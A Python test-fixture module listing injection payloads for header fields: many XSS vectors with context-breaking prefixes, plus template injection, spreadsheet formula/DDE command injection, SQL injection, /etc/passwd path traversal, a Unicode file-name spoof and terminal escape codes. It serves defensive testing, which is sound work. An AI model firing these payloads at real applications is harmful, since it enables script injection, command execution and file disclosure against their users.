"""What one could write into a header to have a page do one's bidding: set window.pwned."""

_CALL = "window.pwned=1"
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    "<div hx-on:click={} hx-trigger=load hx-get=/worklist>",
)
_ESCAPES = ("", '">', "'>", "</td></tr></table>", "--><!-- ")
_OTHERS = (
    "{{ 7 * 191 }}",
    "{% raw %}",
    f"${{{_CALL}}}",
    '=HYPERLINK("javascript:window.pwned=1")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u202egnp.exe",
    "\u0000\u0007\u001b[31mred",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003e",
    "A" * 4000,
    "日本語^<b>太郎</b>=やまだ^たろう",
    "' OR 1=1 --",
    "../../etc/passwd",
)
PAYLOADS = [
    *(
        escape + element.format(_CALL)
        for number, element in enumerate(_ELEMENTS)
        for escape in (_ESCAPES if number % 2 else _ESCAPES[:3])
    ),
    *_OTHERS,
]
